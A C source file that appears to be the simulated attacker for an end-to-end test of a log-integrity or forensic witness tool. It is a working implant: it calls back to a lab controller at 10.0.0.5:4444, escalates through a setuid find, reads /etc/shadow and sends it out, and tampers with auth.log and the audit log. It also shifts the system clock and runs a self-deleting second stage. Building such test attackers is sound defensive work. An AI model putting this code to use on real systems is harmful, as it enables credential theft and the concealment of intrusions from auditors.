// SPDX-License-Identifier: MIT
// The attack's program in the guest of tests/e2e/witness-guest.sh. It connects to the laboratory's 10.0.0.5:4444, does the fixed
// things that the other side names, and tells the guest's witness (descriptors 3 and 4) of each. It takes no other orders.
//
// Called with the name of a step it does that one alone: so it is run as root, by a find(1) that an administrator made setuid.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define OWN_PATH "/home/alice/Downloads/invoice.bin"
#define SECOND_STAGE "/home/alice/.cache/.y"
#define LOOT "/home/alice/.cache/.loot"
#define AUTH_LOG "/var/log/auth.log"
#define AUDIT_LOG "/var/log/audit/audit.log"
#define PATTERNS "/tmp/.p"
#define KEPT "/tmp/.l"
#define MAX_BYTES (8 << 20)

// Sends a line to the witness and waits until the host has it.
static void __attribute__((format(printf, 1, 2))) tell(const char *format, ...)
{
	char line[512], answer;
	va_list arguments;
	int length;

	va_start(arguments, format);
	length = vsnprintf(line, sizeof(line) - 1, format, arguments);
	va_end(arguments);
	line[length++] = '\n';
	if (write(3, line, (size_t)length) != length || read(4, &answer, 1) != 1)
		_exit(9);
}

static pid_t start(const char *const *words, const char *output)
{
	pid_t child = fork();

	if (child == 0) {
		if (output) {
			int file = open(output, O_WRONLY | O_CREAT | O_TRUNC, 0644);

			if (file < 0 || dup2(file, 1) < 0)
				_exit(8);
			close(file);
		}
		execv(words[0], (char *const *)words);
		_exit(127);
	}
	return child;
}

static void finish(pid_t child)
{
	if (child > 0)
		waitpid(child, NULL, 0);
}

static char *read_all(const char *path, int flags, int *ret_file, size_t *ret_length)
{
	char *bytes = malloc(MAX_BYTES + 1);
	ssize_t count;

	*ret_file = open(path, flags | O_CLOEXEC);
	if (!bytes || *ret_file < 0)
		_exit(7);
	for (*ret_length = 0; (count = read(*ret_file, bytes + *ret_length, MAX_BYTES - *ret_length)) > 0;)
		*ret_length += (size_t)count;
	bytes[*ret_length] = 0;
	return bytes;
}

// Its own address out of the log, in place: the size stays.
static void tamper(void)
{
	size_t length;
	char *bytes, *at;
	int file;

	tell("pid tamperer %ld", (long)getpid());
	tell("before tamper " AUTH_LOG);
	bytes = read_all(AUTH_LOG, O_RDWR, &file, &length);
	at = strstr(bytes, "from 10.0.0.5");
	if (!at || pwrite(file, "from 10.0.0.8", 13, at - bytes) != 13 || fsync(file) < 0)
		_exit(6);
	close(file);
	tell("after tamper " AUTH_LOG);
}

// The log is removed and written anew, without its own lines.
static void anew(void)
{
	size_t length;
	char *bytes, *line, *rest;
	int file;
	FILE *log;

	tell("pid rewriter %ld", (long)getpid());
	tell("before anew " AUTH_LOG);
	rest = bytes = read_all(AUTH_LOG, O_RDONLY, &file, &length);
	close(file);
	unlink(AUTH_LOG);
	log = fopen(AUTH_LOG, "w");
	while (log && (line = strsep(&rest, "\n")) && rest)
		if (!strstr(line, "10.0.0.5"))
			fprintf(log, "%s\n", line);
	if (!log || fflush(log) != 0 || fsync(fileno(log)) != 0)
		_exit(6);
	fclose(log);
	tell("after anew " AUTH_LOG);
}

static void steal(void)
{
	size_t length;
	char *bytes;
	int file;

	tell("pid thief %ld", (long)getpid());
	bytes = read_all("/etc/shadow", O_RDONLY, &file, &length);
	close(file);
	file = open(LOOT, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (write(file, bytes, length) != (ssize_t)length || fsync(file) < 0)
		_exit(6);
	close(file);
	tell("see loot " LOOT);
}

static int is_one_of(const long *numbers, size_t count, long number)
{
	for (size_t i = 0; i < count; i++)
		if (numbers[i] == number)
			return 1;
	return 0;
}

static long number_after(const char *line, const char *name)
{
	const char *at = strstr(line, name);

	return at ? strtol(at + strlen(name), NULL, 10) : -1;
}

static int is_own(const char *line)
{
	return strstr(line, "invoice.bin") || strstr(line, "0A000005") || strstr(line, "0A000009");
}

// Which events are its own: those that name it or its addresses, and all others of the same processes.
static size_t own_events(const char *bytes, long *serials, size_t most)
{
	static long pids[256];
	size_t pid_count = 0, count = 0;
	char line[16384];

	for (int round = 0; round < 3; round++)
		for (const char *at = bytes, *end; (end = strchr(at, '\n')); at = end + 1) {
			long serial, pid, child;

			snprintf(line, sizeof(line), "%.*s", (int)(end - at), at);
			serial = strstr(line, "audit(") ? number_after(strstr(line, "audit("), ":") : -1;
			pid = number_after(line, " pid=");
			child = strstr(line, "syscall=56 ") ? number_after(line, " exit=") : -1; // clone
			if (serial < 0)
				continue;
			if (round > 0 && pid > 0 && is_one_of(serials, count, serial) && !is_one_of(pids, pid_count, pid) &&
			    child < 0 && pid_count < 256)
				pids[pid_count++] = pid;
			if ((is_own(line) || is_one_of(pids, pid_count, pid) || is_one_of(pids, pid_count, child)) &&
			    !is_one_of(serials, count, serial) && count < most)
				serials[count++] = serial;
		}
	return count;
}

// Its own records out of the audit log, into the same inode, which auditd holds open.
static void strip(void)
{
	static const char *const keep[] = { "/usr/bin/grep", "-a", "-v", "-F", "-f", PATTERNS, AUDIT_LOG, NULL };
	static const char *const put_back[] = { "/usr/bin/cat", KEPT, NULL };
	static long serials[8192];
	size_t length, count;
	char *bytes;
	pid_t child;
	FILE *patterns;
	int file;

	tell("pid cleaner %ld", (long)getpid());
	tell("before strip " AUDIT_LOG);
	tell("copy " AUDIT_LOG);
	bytes = read_all(AUDIT_LOG, O_RDONLY, &file, &length);
	close(file);
	count = own_events(bytes, serials, 8192);
	patterns = fopen(PATTERNS, "w");
	for (size_t i = 0; patterns && i < count; i++)
		fprintf(patterns, ":%ld)\n", serials[i]);
	if (!patterns || fclose(patterns) != 0)
		_exit(6);
	finish(start(keep, KEPT));
	child = start(put_back, AUDIT_LOG);
	finish(child);
	tell("after strip " AUDIT_LOG);
	tell("say name putter %ld", (long)child);
	tell("gone strip " AUDIT_LOG);
	unlink(PATTERNS);
	unlink(KEPT);
}

// The same with sed -i: the log becomes another inode, and auditd goes on writing into the removed one.
static void sed(void)
{
	static const char *const words[] = { "/usr/bin/sed", "-i", "-e", "/invoice.bin/d", "-e", "/0A00000[59]/d", AUDIT_LOG, NULL };
	pid_t child;

	tell("pid cleaner %ld", (long)getpid());
	tell("before sed " AUDIT_LOG);
	tell("copy " AUDIT_LOG);
	child = start(words, NULL);
	finish(child);
	tell("after sed " AUDIT_LOG);
	tell("say name putter %ld", (long)child);
	tell("gone sed " AUDIT_LOG);
}

// The guest's clock, a minute and a half ahead: what comes now is no longer found at the time at which the network saw it.
static void set_ahead(void)
{
	char when[32];
	const char *words[] = { "/usr/bin/date", "-s", when, NULL };
	pid_t child;

	tell("pid stepper %ld", (long)getpid());
	tell("before ahead " AUTH_LOG);
	snprintf(when, sizeof(when), "@%ld", (long)time(NULL) + 90);
	child = start(words, NULL);
	finish(child);
	tell("after ahead " AUTH_LOG);
	tell("say name date %ld", (long)child);
}

// The step as root.
static void as_root(const char *step)
{
	const char *words[] = { "/usr/bin/find", OWN_PATH, "-exec", OWN_PATH, step, ";", NULL };
	pid_t child = start(words, NULL);

	tell("say name %s-find %ld", step, (long)child);
	finish(child);
}

// A second stage that nobody sends to the disk: made, run and removed within a second.
static void drop(void)
{
	static const char *const words[] = { SECOND_STAGE, "nothing", NULL };
	size_t length;
	char *bytes;
	int file;
	pid_t child;

	bytes = read_all(OWN_PATH, O_RDONLY, &file, &length);
	close(file);
	file = open(SECOND_STAGE, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (write(file, bytes, length) != (ssize_t)length || write(file, "second stage\n", 13) != 13)
		_exit(6);
	close(file);
	tell("see second-stage " SECOND_STAGE);
	child = start(words, NULL);
	finish(child);
	tell("say name second-stage %ld", (long)child);
	unlink(SECOND_STAGE);
	tell("see second-stage-gone " SECOND_STAGE);
}

static void send_loot(int peer)
{
	size_t length;
	char *bytes;
	int file;

	as_root("steal");
	bytes = read_all(LOOT, O_RDONLY, &file, &length);
	close(file);
	if (write(peer, bytes, length) != (ssize_t)length)
		_exit(5);
	tell("see loot-read " LOOT);
	unlink(LOOT);
	tell("see loot-gone " LOOT);
}

static void leave(void)
{
	tell("see leave " OWN_PATH);
	unlink(OWN_PATH);
	tell("see left " OWN_PATH);
}

static void obey(int peer, const char *order)
{
	static const char *const root_steps[] = { "tamper", "anew", "strip", "sed", "ahead" };

	for (size_t i = 0; i < sizeof(root_steps) / sizeof(*root_steps); i++)
		if (strcmp(order, root_steps[i]) == 0)
			as_root(order);
	if (strcmp(order, "drop") == 0)
		drop();
	else if (strcmp(order, "steal") == 0)
		send_loot(peer);
	else if (strcmp(order, "leave") == 0)
		leave();
	dprintf(peer, "done\n");
}

static int talk(void)
{
	struct sockaddr_in home = { .sin_family = AF_INET, .sin_port = htons(4444) }, own;
	socklen_t size = sizeof(own);
	char order[32];
	size_t used = 0;
	int peer = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	tell("pid implant %ld", (long)getpid());
	inet_pton(AF_INET, "10.0.0.5", &home.sin_addr);
	tell("say before connect");
	if (peer < 0 || connect(peer, (struct sockaddr *)&home, sizeof(home)) < 0)
		return 1;
	getsockname(peer, (struct sockaddr *)&own, &size);
	tell("say after connect %u", ntohs(own.sin_port));
	while (used < sizeof(order) - 1 && read(peer, order + used, 1) == 1) {
		if (order[used++] != '\n')
			continue;
		order[used - 1] = 0;
		used = 0;
		obey(peer, order);
	}
	return 0;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		void (*run)(void);
	} steps[] = { { "tamper", tamper }, { "anew", anew }, { "steal", steal }, { "strip", strip }, { "sed", sed }, { "ahead", set_ahead } };

	if (argc == 1)
		return talk();
	for (size_t i = 0; i < sizeof(steps) / sizeof(*steps); i++)
		if (strcmp(argv[1], steps[i].name) == 0)
			steps[i].run();
	return 0;
}
